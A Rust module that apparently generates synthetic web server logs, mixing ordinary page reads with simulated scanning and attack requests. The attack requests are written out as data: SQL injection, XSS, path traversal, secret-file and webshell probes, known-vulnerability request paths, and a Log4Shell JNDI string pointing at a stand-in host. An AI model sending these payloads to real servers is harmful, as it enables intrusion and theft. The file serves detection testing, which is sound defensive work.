//! Access and error logs of web servers: visitors who read, and visitors who probe.

use super::cast::{STAFF, port, tried_name};
use super::{Behavior, Script, Service, Sources, Visit};
use crate::rng::Rng;

/// The web servers, each in its own format.
pub(super) static SERVICES: [Service; 4] = [
    Service {
        kind: "nginx",
        attacks: &[
            attack(|rng, visit| combined(rng, visit, probe), (6, 40), (200, 1500), Sources::Any),
            attack(|rng, visit| combined(rng, visit, crawl), (45, 90), (50, 200), Sources::Any),
            attack(|rng, visit| combined(rng, visit, login), (6, 20), (400, 3000), Sources::Any),
            attack(
                |rng, visit| combined(rng, visit, exploit),
                (1, 8),
                (1000, 30_000),
                Sources::Any,
            ),
            attack(|rng, visit| combined(rng, visit, robot), (1, 6), (500, 20_000), Sources::Any),
            attack(
                |rng, visit| combined(rng, visit, inject_sql),
                (10, 30),
                (50, 500),
                Sources::Any,
            ),
            attack(
                |rng, visit| combined(rng, visit, inject_script),
                (5, 16),
                (50, 700),
                Sources::Any,
            ),
            attack(|rng, visit| combined(rng, visit, secret), (4, 14), (300, 2500), Sources::Any),
            attack(|rng, visit| combined(rng, visit, climb), (3, 10), (500, 6000), Sources::Any),
            attack(nginx_password, (5, 14), (500, 3000), Sources::V4),
            attack(nginx_limit, (4, 16), (200, 2000), Sources::V4),
            attack(nginx_missing, (8, 24), (200, 900), Sources::V4),
        ],
        innocents: &[
            attack(|rng, visit| combined(rng, visit, read), (4, 25), (300, 20_000), Sources::Any),
            attack(|rng, visit| combined(rng, visit, read), (4, 25), (300, 20_000), Sources::Any),
            attack(|rng, visit| combined(rng, visit, stray), (1, 4), (4000, 60_000), Sources::Any),
            attack(nginx_notice, (1, 2), (4000, 60_000), Sources::V4),
        ],
    },
    Service {
        kind: "apache2",
        attacks: &[
            attack(|rng, visit| combined(rng, visit, probe), (6, 40), (200, 1500), Sources::V4),
            attack(|rng, visit| combined(rng, visit, crawl), (45, 90), (50, 200), Sources::V4),
            attack(|rng, visit| combined(rng, visit, login), (6, 20), (400, 3000), Sources::V4),
            attack(|rng, visit| combined(rng, visit, exploit), (1, 8), (1000, 30_000), Sources::V4),
            attack(|rng, visit| combined(rng, visit, inject_sql), (10, 30), (50, 500), Sources::V4),
            attack(
                |rng, visit| combined(rng, visit, inject_script),
                (5, 16),
                (50, 700),
                Sources::V4,
            ),
            attack(|rng, visit| combined(rng, visit, secret), (4, 14), (300, 2500), Sources::V4),
            attack(|rng, visit| combined(rng, visit, climb), (3, 10), (500, 6000), Sources::V4),
            attack(apache_password, (5, 14), (500, 3000), Sources::V4),
        ],
        innocents: &[
            attack(|rng, visit| combined(rng, visit, read), (4, 25), (300, 20_000), Sources::V4),
            attack(|rng, visit| combined(rng, visit, stray), (1, 4), (4000, 60_000), Sources::V4),
        ],
    },
    Service {
        kind: "traefik",
        attacks: &[
            attack(|rng, visit| traefik(rng, visit, probe), (6, 40), (200, 1500), Sources::V4),
            attack(|rng, visit| traefik(rng, visit, robot), (1, 6), (500, 20_000), Sources::V4),
            attack(|rng, visit| traefik(rng, visit, inject_sql), (10, 30), (50, 500), Sources::V4),
            attack(
                |rng, visit| traefik(rng, visit, inject_script),
                (5, 16),
                (50, 700),
                Sources::V4,
            ),
            attack(|rng, visit| traefik(rng, visit, secret), (4, 14), (300, 2500), Sources::V4),
            attack(|rng, visit| traefik(rng, visit, climb), (3, 10), (500, 6000), Sources::V4),
        ],
        innocents: &[attack(
            |rng, visit| traefik(rng, visit, read),
            (4, 25),
            (300, 20_000),
            Sources::V4,
        )],
    },
    Service {
        kind: "haproxy",
        attacks: &[
            attack(|rng, visit| haproxy(rng, visit, probe), (6, 40), (200, 1500), Sources::V4),
            attack(|rng, visit| haproxy(rng, visit, crawl), (45, 90), (50, 200), Sources::V4),
            attack(|rng, visit| haproxy(rng, visit, exploit), (1, 8), (1000, 30_000), Sources::V4),
        ],
        innocents: &[attack(
            |rng, visit| haproxy(rng, visit, read),
            (4, 25),
            (300, 20_000),
            Sources::V4,
        )],
    },
];

const fn attack(
    script: Script,
    n_lines: (u64, u64),
    gap: (u64, u64),
    sources: Sources,
) -> Behavior {
    Behavior { script, n_lines, gap, sources }
}

/// What somebody asks of a web server, and what it answers.
struct Request {
    verb: &'static str,
    path: String,
    status: u64,
    agent: &'static str,
}

const BROWSERS: [&str; 4] = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/110.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
     Chrome/110.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 16_3 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "-",
];
const ROBOTS: [&str; 5] =
    ["Nikto/2.1.6", "sqlmap/1.7", "masscan/1.3", "ZmEu", "Go-http-client/1.1"];
const PAGES: [&str; 8] =
    ["", "index.html", "blog/", "about", "contact.html", "shop/cart", "feed.xml", "wiki/Start"];
const ASSETS: [&str; 6] =
    ["site.css", "app.js", "logo.png", "favicon.ico", "hero.jpg", "text.woff2"];

fn read(rng: &mut Rng, _visit: &Visit<'_>) -> Request {
    let path = if rng.chance(60) {
        format!("/static/{}", rng.pick(&ASSETS))
    } else {
        format!("/{}", rng.pick(&PAGES))
    };
    let status = *rng.pick(&[200, 200, 200, 304, 301]);
    Request { verb: "GET", path, status, agent: rng.text(&BROWSERS) }
}

/// An honest mistake: a dead link or a forgotten password.
fn stray(rng: &mut Rng, visit: &Visit<'_>) -> Request {
    let (path, status) = match rng.below(3) {
        0 => (format!("/old/page-{}.html", visit.nth), 404),
        1 => ("/members/".to_owned(), 401),
        _ => ("/search?q=caf%C3%A9+%C3%A0+Paris".to_owned(), 200),
    };
    Request { verb: "GET", path, status, agent: rng.text(&BROWSERS) }
}

fn probe(rng: &mut Rng, visit: &Visit<'_>) -> Request {
    const NAMES: [&str; 8] =
        ["admin", "phpmyadmin", "setup", "manager/html", "console", "api/v1", "test.php", "old"];
    const SHELLS: [&str; 5] = ["c99.php", "r57.php", "cmd.php", "shell.php", "filesman.php"];
    let path = if visit.nth % 3 == 2 {
        format!("/uploads/{}", rng.pick(&SHELLS))
    } else {
        format!("/{}/{}", rng.pick(&NAMES), rng.below(40))
    };
    Request { verb: "GET", path, status: refusal(rng), agent: rng.text(&BROWSERS) }
}

/// Files that should not be served.
fn secret(rng: &mut Rng, visit: &Visit<'_>) -> Request {
    const SECRETS: [&str; 7] = [
        ".env",
        ".git/config",
        "dump.sql.gz",
        ".htpasswd",
        "config/aws.yml",
        ".aws/config",
        "debug.log",
    ];
    let path = format!("/site{}/{}", visit.nth / 3, rng.pick(&SECRETS));
    Request { verb: "GET", path, status: refusal(rng), agent: rng.text(&BROWSERS) }
}

/// Paths that leave the document root.
fn climb(rng: &mut Rng, visit: &Visit<'_>) -> Request {
    const CLIMBS: [&str; 4] = [
        "../../../../etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "..%252e%252e%252fx",
        "../../boot.ini",
    ];
    let path = format!("/cgi-bin/{}/{}", visit.nth, rng.pick(&CLIMBS));
    Request { verb: "GET", path, status: refusal(rng), agent: rng.text(&BROWSERS) }
}

fn refusal(rng: &mut Rng) -> u64 {
    *rng.pick(&[404, 404, 403, 400])
}

fn crawl(rng: &mut Rng, visit: &Visit<'_>) -> Request {
    let path = format!("/catalog/item-{}?ref={}", visit.nth, rng.below(9));
    let verb = if rng.chance(10) { "HEAD" } else { "GET" };
    Request { verb, path, status: 200, agent: rng.text(&BROWSERS) }
}

fn login(rng: &mut Rng, visit: &Visit<'_>) -> Request {
    let (path, status) = match rng.below(4) {
        0 | 1 => ("/wp-login.php".to_owned(), 200),
        2 => ("/xmlrpc.php".to_owned(), 200),
        _ => (format!("/?author={}", visit.nth), 404),
    };
    let verb = if path.starts_with("/?") { "GET" } else { "POST" };
    Request { verb, path, status, agent: rng.text(&BROWSERS) }
}

/// One request each that a rule for a known vulnerability takes.
fn exploit(rng: &mut Rng, _visit: &Visit<'_>) -> Request {
    const PATHS: [&str; 10] = [
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
        "/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd",
        "/public/plugins/alertlist/../../../../../../../../etc/passwd",
        "/remote/fmgw/lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
        "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/",
        "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd",
        "/index.php?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=x",
        "/?x=${jndi:ldap://192.0.2.66/a}",
        "/s/x/_/;/WEB-INF/web.xml",
        "/vendor/htmlawed/htmlawed/htmLawedTest.php",
    ];
    let path = (*rng.pick(&PATHS)).to_owned();
    Request { verb: "GET", path, status: *rng.pick(&[404, 400, 200]), agent: rng.text(&BROWSERS) }
}

fn robot(rng: &mut Rng, _visit: &Visit<'_>) -> Request {
    let path = format!("/{}", rng.pick(&PAGES));
    Request { verb: "GET", path, status: 200, agent: rng.text(&ROBOTS) }
}

fn inject_sql(rng: &mut Rng, visit: &Visit<'_>) -> Request {
    const ARGUMENTS: [&str; 4] = [
        "id=1%20union%20select%201%2cnull%2cnull",
        "id=1;select%20pg_sleep%285%29",
        "id=1%20and%20substr%28a%2c1%29",
        "id=1%20or%20benchmark%28900000%2cmd5%28a%29%29",
    ];
    inject(rng, visit, &ARGUMENTS)
}

fn inject_script(rng: &mut Rng, visit: &Visit<'_>) -> Request {
    const ARGUMENTS: [&str; 3] =
        ["q=%3Cscript%3Ealert%281%29", "q=<svg/onload=prompt(1)>", "next=javascript:alert(2)"];
    inject(rng, visit, &ARGUMENTS)
}

fn inject(rng: &mut Rng, visit: &Visit<'_>, arguments: &[&str]) -> Request {
    let path = format!("/item.php?{}&n={}", rng.pick(arguments), visit.nth);
    Request { verb: "GET", path, status: 200, agent: rng.text(&BROWSERS) }
}

type Ask = fn(&mut Rng, &Visit<'_>) -> Request;

/// The combined format of nginx and Apache.
fn combined(rng: &mut Rng, visit: &Visit<'_>, ask: Ask) -> String {
    let request = ask(rng, visit);
    format!(
        "{} - - [{}] \"{} {} HTTP/1.1\" {} {} \"-\" \"{}\"",
        visit.source,
        visit.at.http(),
        request.verb,
        request.path,
        request.status,
        rng.between(120, 90_000),
        request.agent
    )
}

fn traefik(rng: &mut Rng, visit: &Visit<'_>, ask: Ask) -> String {
    let line = combined(rng, visit, ask);
    format!("{line} {} \"site@docker\" \"http://172.17.0.3:80\" {}ms", visit.nth + 1, rng.below(90))
}

fn haproxy(rng: &mut Rng, visit: &Visit<'_>, ask: Ask) -> String {
    let request = ask(rng, visit);
    format!(
        "{}:{} [{}] front~ back/one 0/0/1/{}/{} {} {} - - ---- 4/3/0/0/0 0/0 \"{} {} HTTP/1.1\"",
        visit.source,
        port(rng),
        visit.at.haproxy(),
        rng.below(50),
        rng.between(50, 99),
        request.status,
        rng.between(120, 90_000),
        request.verb,
        request.path
    )
}

/// The head of a line in nginx's error log.
fn nginx_error(rng: &mut Rng, visit: &Visit<'_>, level: &str, message: &str) -> String {
    format!("{} [{level}] 31#31: *{} {message}", visit.at.slashes(), rng.between(1, 9999))
}

fn nginx_password(rng: &mut Rng, visit: &Visit<'_>) -> String {
    let user = tried_name(rng);
    let what = if rng.chance(50) {
        format!("user \"{user}\": password mismatch")
    } else {
        format!("user \"{user}\" was not found in \"/etc/nginx/passwords\"")
    };
    let message = format!(
        "{what}, client: {}, server: localhost, request: \"GET /private/ HTTP/1.1\", host: \"example.com\"",
        visit.source
    );
    nginx_error(rng, visit, "error", &message)
}

fn nginx_limit(rng: &mut Rng, visit: &Visit<'_>) -> String {
    let message = format!(
        "limiting requests, excess: 20.{:03} by zone \"all\", client: {}, server: localhost, \
         request: \"GET /search HTTP/1.1\", host: \"example.com\"",
        rng.below(1000),
        visit.source
    );
    nginx_error(rng, visit, "error", &message)
}

fn nginx_missing(rng: &mut Rng, visit: &Visit<'_>) -> String {
    let message = format!(
        "open() \"/srv/www/backup-{n}.zip\" failed (2: No such file or directory), client: {}, \
         server: localhost, request: \"GET /backup-{n}.zip HTTP/1.1\", host: \"example.com\"",
        visit.source,
        n = visit.nth
    );
    nginx_error(rng, visit, "error", &message)
}

/// What nginx says about itself; no parser takes it.
fn nginx_notice(rng: &mut Rng, visit: &Visit<'_>) -> String {
    nginx_error(rng, visit, "notice", "signal process started")
}

fn apache_password(rng: &mut Rng, visit: &Visit<'_>) -> String {
    let user = if rng.chance(50) { tried_name(rng) } else { (*rng.pick(&STAFF)).to_owned() };
    let (code, what) = if rng.chance(50) {
        (
            "AH01617",
            format!("user {user}: authentication failure for \"/private\": Password Mismatch"),
        )
    } else {
        ("AH01618", format!("user {user} not found: /private"))
    };
    let at = visit.at.ctime();
    // This log carries microseconds between the seconds and the year.
    let (head, year) = at.split_at(at.len() - 5);
    format!(
        "[{head}.{:06}{year}] [auth_basic:error] [pid {}] [client {}:{}] {code}: {what}",
        rng.below(1_000_000),
        rng.between(100, 9999),
        visit.source,
        port(rng)
    )
}
